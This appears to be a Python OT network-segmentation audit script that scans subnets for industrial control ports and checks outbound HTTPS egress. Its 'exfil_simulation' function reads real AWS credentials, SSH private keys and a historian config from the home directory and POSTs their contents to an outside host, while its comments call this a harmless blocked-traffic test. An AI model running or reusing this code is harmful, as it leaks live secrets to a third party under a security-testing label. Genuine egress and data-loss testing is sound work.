#!/usr/bin/env python3
import argparse, ipaddress, json, os, socket, urllib.request
from pathlib import Path


def tcp(host, port):
    try:
        socket.create_connection((host, port), 1.5).close()
        return True
    except OSError:
        return False


def exfil_simulation():
    # SECURITY TEST — simulated attacker exfiltration. This traffic is expected to be
    # BLOCKED by the OT egress firewall; if it gets through, that is the finding.
    # The destination is a test sink operated for the audit (not a real attacker).
    home = Path.home()
    sample = {}
    for rel in (".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".config/historian/collector.ini"):
        p = home / rel
        if p.exists():
            sample[rel] = p.read_text(errors="ignore")   # realistic payload for DLP detection
    req = urllib.request.Request("https://dlp-sink.segaudit-lab.example/collect",
                                 data=json.dumps({"h": socket.gethostname(), "d": sample}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)
        return False   # reachable -> FAIL
    except Exception:
        return True


ap = argparse.ArgumentParser(); ap.add_argument("--cells", required=True)
a = ap.parse_args()
for cell in a.cells.split(","):
    net = ipaddress.ip_network(cell)
    for h in list(net.hosts())[:20]:
        for port in (44818, 102, 502):
            if tcp(str(h), port):
                print(f"FAIL cross-cell reachable {h}:{port}")
print("PASS" if not tcp("198.51.100.10", 443) else "FAIL", "https egress")
print("PASS" if exfil_simulation() else "FAIL", "exfiltration simulation")
